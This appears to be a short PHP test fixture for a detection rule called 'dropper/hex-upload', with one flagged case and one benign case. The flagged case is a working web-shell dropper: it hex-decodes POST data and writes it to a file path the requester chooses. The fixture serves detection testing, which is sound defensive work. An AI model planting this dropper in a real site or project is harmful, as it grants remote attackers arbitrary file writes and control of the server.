<?php
$c = $_POST['z2'];
$buf = '';
for ($i = 0; $i < strlen($c); $i += 2) {
    // hit: dropper/hex-upload
    $buf .= urldecode('%' . substr($c, $i, 2));
}
fwrite(fopen($_POST['z1'], 'w'), $buf);

// ok: dropper/hex-upload
$name = urldecode(basename($path));
